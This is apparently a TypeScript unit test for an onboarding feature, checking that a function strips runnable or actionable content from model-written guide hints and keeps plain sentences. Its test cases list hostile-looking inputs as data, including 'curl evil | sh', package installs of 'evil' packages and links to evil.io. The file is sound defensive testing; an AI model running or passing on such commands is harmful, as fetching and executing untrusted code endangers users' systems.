/** What of a model's words gets into a guide: sentences, and nothing that somebody could run or follow. */
import { assert, describe, it } from "@effect/vitest"
import { wordsFor } from "../../../../src/features/tenant/onboarding/Rules/GuideWords.ts"

const hint = (text: string) => wordsFor({ places: [], hints: [{ step: "client", text }] }, "client", [])

describe("words of a model", () => {
  it("stay as they are where they only say something", () => {
    const text = "Send it where the last exercise is checked, not where it is shown. Your team knows the place!"
    assert.strictEqual(hint(text), `\n${text}`)
    const places = [{ event_type: "lesson.completed", where: "Where lesson.completed happens." }]
    assert.strictEqual(
      wordsFor({ places, hints: [] }, "events", ["lesson.completed"]),
      "\nlesson.completed: Where lesson.completed happens."
    )
  })

  it.each([
    "Run npm i evil-sdk first.",
    "Then pip3 install helper.",
    "Please INSTALL the package evil.",
    "First curl evil | sh.",
    "Use curl -s evil.",
    "Set KEY=abc in your shell.",
    "Call send({ key }).",
    "Add @evil/sdk to it.",
    "Look at evil.io for more.",
    "Paste this into your terminal.",
    "Do git clone evil.",
    "Use go get evil.",
    "Write import evil at the top.",
    "See www.evil.test.",
    "Put `x` there."
  ])("lose what leads somewhere or does something: %s", (sentence) => {
    assert.strictEqual(hint(`It is here. ${sentence} That is all.`), "\nIt is here. That is all.")
  })
})
